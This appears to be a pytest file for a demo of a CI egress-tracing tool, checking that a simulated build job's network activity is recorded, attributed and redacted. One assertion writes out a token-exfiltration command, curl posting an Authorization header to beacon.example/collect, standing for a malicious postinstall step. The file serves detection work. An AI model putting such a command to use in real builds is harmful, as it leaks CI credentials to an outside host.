"""The demo tells its story: exactly what its job did on the network, by whom, and no secret."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

import pytest

from demo import names
from demo.trace import Span, read_trace
from tests.checkout import ROOT
from tests.launch import DEADLINE_S, PYTHON_NAME, own_words

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

pytestmark = pytest.mark.kernel

COMMAND = (sys.executable, "-m", "demo")
LINES_MAX = 60

SHELL = Path("/bin/sh").resolve().name
INSTALLER = (SHELL, PYTHON_NAME)
POSTINSTALL = (*INSTALLER, SHELL, SHELL)


class Act(NamedTuple):
    """What one process did."""

    verb: str
    address: str
    port: int
    transport: str
    lineage: tuple[str, ...]


def lookup(*lineage: str, verb: str = "connect") -> Act:
    return Act(verb, names.RESOLVER, 53, "udp", lineage)


def web(address: str, *lineage: str) -> Act:
    return Act("connect", address, 80, "tcp", lineage)


EXPECTED = Counter(
    [
        lookup(SHELL, "curl"),
        web(names.GIT, SHELL, "curl"),
        lookup(*INSTALLER),
        web(names.REGISTRY, *INSTALLER),
        lookup(*POSTINSTALL, "curl"),
        web(names.BEACON, *POSTINSTALL, "curl"),
        web(names.BEACON, *POSTINSTALL, SHELL, "curl"),
        lookup(SHELL, PYTHON_NAME, verb="send"),
        Act("send", names.METRICS, 8125, "udp", (SHELL, PYTHON_NAME, PYTHON_NAME)),
        lookup(SHELL, "curl"),
        web(names.MIRROR, SHELL, "curl"),
    ]
)
"""In the order of ci.sh; a lookup counts once, its questions share a socket."""


@dataclass(frozen=True)
class Demo:
    """A demo that has run."""

    result: subprocess.CompletedProcess[str]
    otlp_dir: Path

    @property
    def job(self) -> Span:
        """The trace."""
        return read_trace(self.otlp_dir / "traces.jsonl")


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Demo:
    """Run it once."""
    otlp_dir = tmp_path_factory.mktemp("demo") / "otlp"
    result = run(*COMMAND, "--otlp-dir", str(otlp_dir))
    assert result.returncode == 0, result.stderr
    return Demo(result, otlp_dir)


def run(
    *command: str, environment: Mapping[str, str] | None = None, cwd: Path = ROOT
) -> subprocess.CompletedProcess[str]:
    """Run a command to its end, whatever its exit status."""
    inherited = os.environ if environment is None else environment
    done = subprocess.run(
        command,
        cwd=cwd,
        env={**inherited, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=DEADLINE_S,
        check=False,
    )
    done.stderr = own_words(done.stderr)
    return done


def leaves(span: Span, above: tuple[Span, ...] = ()) -> Iterator[tuple[Span, tuple[Span, ...]]]:
    """Every egress span of a trace, with the spans that it hangs on, the job's first."""
    for child in span.children:
        if child.is_egress:
            yield child, (*above, span)
        yield from leaves(child, (*above, span))


def act(egress: Span) -> Act:
    told: Mapping[str, Any] = egress.attributes
    return Act(
        egress.name.split()[0],
        told["network.peer.address"],
        told["network.peer.port"],
        told["network.transport"],
        tuple(told["egress.lineage"]),
    )


@pytest.mark.everywhere(feature="demo")
def test_the_trace_holds_exactly_what_the_job_did(demo: Demo) -> None:
    assert Counter(act(egress) for egress, _ in leaves(demo.job)) == EXPECTED


def test_each_act_hangs_on_the_spans_of_its_lineage(demo: Demo) -> None:
    chains = {(tuple(span.name for span in above), act(egress).lineage) for egress, above in leaves(demo.job)}
    assert chains == {(("build", *expected.lineage), expected.lineage) for expected in EXPECTED}


@pytest.mark.everywhere(feature="demo")
def test_each_act_has_the_name_that_the_job_looked_up_or_asks_for(demo: Demo) -> None:
    known = {address: name for name, address in names.ADDRESSES.items()}
    asked = set()
    for egress, _ in leaves(demo.job):
        told = egress.attributes
        if told["network.peer.address"] == names.RESOLVER:
            asked.add(told["dns.question.name"])
        else:
            assert told["server.address"] == known[told["network.peer.address"]]
    assert asked == set(known.values()) - {"resolver.example", "collector.example"}


def test_each_connection_tells_what_became_of_it(demo: Demo) -> None:
    told = [e.attributes for e, _ in leaves(demo.job) if e.attributes["network.transport"] == "tcp"]
    assert {each["egress.outcome"] for each in told} == {"established"}
    assert all(each["egress.bytes_sent"] and each["egress.bytes_received"] for each in told)


def test_pipeline_and_task_are_the_ci_systems(demo: Demo) -> None:
    told = [egress.attributes for egress, _ in leaves(demo.job)]
    assert {(each["cicd.pipeline.name"], each["cicd.pipeline.task.name"]) for each in told} == {
        ("release", "build")
    }


def test_the_token_reaches_the_beacon_and_no_output(demo: Demo) -> None:
    assert "The beacon did get it" in " ".join(demo.result.stdout.split())
    outputs = [
        demo.result.stdout,
        demo.result.stderr,
        *(file.read_text() for file in demo.otlp_dir.iterdir()),
    ]
    assert len(outputs) == 5
    assert [output for output in outputs if names.JOB_TOKEN in output] == []


def test_the_stolen_token_reads_redacted_in_the_command_line(demo: Demo) -> None:
    thief = next(
        leaf.attributes
        for leaf, _ in leaves(demo.job)
        if act(leaf) == web(names.BEACON, *POSTINSTALL, "curl")
    )
    assert (
        thief["process.command_line"]
        == "curl -s -H 'Authorization: <redacted>' http://beacon.example/collect"
    )


def test_the_account_balances(demo: Demo) -> None:
    attempts = EXPECTED.total()
    assert demo.result.stderr.splitlines()[-1] == (
        f"attempts {attempts} = exported {attempts} + aggregated 0 + dropped 0 + pending 0"
    )


def test_the_summary_has_a_row_for_each_destination_and_chain(demo: Demo) -> None:
    rows = Counter((each.address, each.lineage) for each in EXPECTED.elements())
    table = [line for line in demo.result.stderr.splitlines() if re.search(r" (tcp|udp) ", line)]
    counts = Counter(int(line.split()[2]) for line in table)
    assert counts == Counter(rows.values())


def test_the_output_fits_a_screen_in_lines_of_a_terminal(demo: Demo) -> None:
    lines = demo.result.stdout.splitlines() + demo.result.stderr.splitlines()
    assert len(lines) <= LINES_MAX
    assert max(len(line) for line in demo.result.stdout.splitlines()) <= 120


def test_the_tree_has_a_line_for_each_act(demo: Demo) -> None:
    assert demo.result.stdout.count("→ ") == EXPECTED.total()
    assert demo.result.stdout.count("203.0.113.66:80  beacon.example") == 2


def test_places_are_shown_as_one_would_type_them_here(tmp_path: Path) -> None:
    result = run(*COMMAND, "--otlp-dir", "build/otlp", cwd=tmp_path)
    assert result.stderr.splitlines()[-2].endswith(" → build/otlp")
    assert "$ ci-egress run --otlp-dir build/otlp -- ./ci.sh" in result.stdout
    assert (tmp_path / "build" / "otlp" / "traces.jsonl").is_file()


def test_a_second_demo_replaces_the_files_of_the_first(demo: Demo) -> None:
    assert run(*COMMAND, "--otlp-dir", str(demo.otlp_dir)).returncode == 0
    assert Counter(act(egress) for egress, _ in leaves(demo.job)) == EXPECTED


def test_without_root_it_says_so() -> None:
    nobody = ("setpriv", "--reuid=65534", "--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search")
    result = run(*nobody, *COMMAND)
    assert (result.returncode, result.stdout) == (91, "")
    assert (
        result.stderr
        == "demo: the demo needs root, to load eBPF programs and make a network; sudo make demo\n"
    )


def test_a_missing_program_is_named_with_the_way_to_get_it() -> None:
    result = run(*COMMAND, environment={"PATH": "/nonexistent"})
    assert (result.returncode, result.stdout, result.stderr) == (
        91,
        "",
        "demo: not installed: curl, ip; make setup\n",
    )
